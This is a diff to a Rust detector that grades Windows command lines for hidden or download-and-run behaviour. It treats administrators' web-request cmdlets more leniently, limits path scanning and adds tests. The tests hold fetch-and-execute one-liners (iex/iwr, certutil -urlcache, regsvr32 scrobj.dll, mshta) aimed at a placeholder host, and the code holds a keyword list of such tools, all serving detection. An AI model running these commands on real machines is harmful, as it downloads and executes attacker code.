@@ -10,6 +10,10 @@ use super::place::{Place, place, plain};
 /// Longest command line looked at, in bytes: longer than Windows allows for a process (32,767).
 const LONGEST: usize = 64 * 1024;
 
+/// Most paths looked at in one part of a command line; real ones name two or three, and each is
+/// read to its end.
+const MOST_PATHS: usize = 32;
+
 /// Shortest text after `-enc` that is taken for an encoded command.
 const SHORTEST_ENCODED: usize = 16;
 
@@ -27,6 +31,10 @@ const FETCHES: [&str; 11] = [
     "vbscript:",
     "scrobj.dll",
 ];
+
+/// Those of them that administrators' scripts use as well: to report that they ran, to fetch data.
+const ORDINARY: [&str; 4] =
+    ["invoke-webrequest", "invoke-restmethod", "start-bitstransfer", "bitsadmin/transfer"];
 
 /// Words that run text as code, without blanks.
 const RUNS_TEXT: [&str; 5] =
@@ -63,7 +71,7 @@ pub(super) fn judge(line: &str) -> Option<(Grade, String)> {
         has(&FETCHES).or_else(|| web.then_some("mshta").filter(|_| outer.contains("mshta")));
     let runs = has(&RUNS_TEXT);
     match (hidden.is_some(), fetches, runs) {
-        (true, Some(word), _) => {
+        (true, Some(word), _) if runs.is_some() || !ORDINARY.contains(&word) => {
             return Some((
                 Grade::Certain,
                 format!("It hides an encoded command that uses {word}."),
@@ -72,11 +80,15 @@ pub(super) fn judge(line: &str) -> Option<(Grade, String)> {
         (false, Some(word), Some(_)) => {
             return Some((Grade::Likely, format!("It fetches code ({word}) and runs it.")));
         }
-        (true, None, _) => {
+        (true, _, _) => {
             return Some((
                 Grade::Likely,
                 "It hides what it runs in an encoded command.".to_owned(),
             ));
+        }
+        (false, Some(word), None) if ORDINARY.contains(&word) => {
+            let look = (Grade::Look, format!("It fetches something ({word})."));
+            return Some(worst_file(&lower).filter(|own| own.0 > Grade::Look).unwrap_or(look));
         }
         (false, Some(word), None) => {
             return Some((Grade::Likely, format!("It fetches something to run ({word}).")));
@@ -122,7 +134,7 @@ fn files(lower: &str) -> Vec<String> {
     // An unquoted path with blanks goes on to its extension, as Windows reads it.
     for part in lower.split(['"', '\'']) {
         let starts = part.match_indices(":\\").map(|(at, _)| at.saturating_sub(1));
-        let mut rest: Vec<usize> = starts.collect();
+        let mut rest: Vec<usize> = starts.take(MOST_PATHS).collect();
         rest.extend(part.match_indices(['%', '\\']).map(|(at, _)| at).take(1));
         for at in rest {
             let Some(path) = part.get(at..) else { continue };
@@ -215,12 +227,18 @@ mod tests {
                 "powershell -c \"i`ex (iwr http://192.0.2.1/a); Invoke-WebRequest\"".into(),
                 Grade::Likely,
             ),
+            ("powershell -c \"Invoke-WebRequest https://status.example/ran\"".into(), Grade::Look),
             ("mshta.exe http://192.0.2.1/a.hta".into(), Grade::Likely),
             ("certutil -urlcache -f http://192.0.2.1/a a.exe".into(), Grade::Likely),
             ("regsvr32 /s /n /u /i:http://192.0.2.1/a scrobj.dll".into(), Grade::Likely),
         ] {
             assert_eq!(judge(&line).map(|own| own.0), Some(wanted), "{line}");
         }
+    }
+
+    #[test]
+    fn a_line_of_nothing_but_paths_ends() {
+        assert_eq!(judge(&"é:\\".repeat(40_000)), None);
     }
 
     #[test]
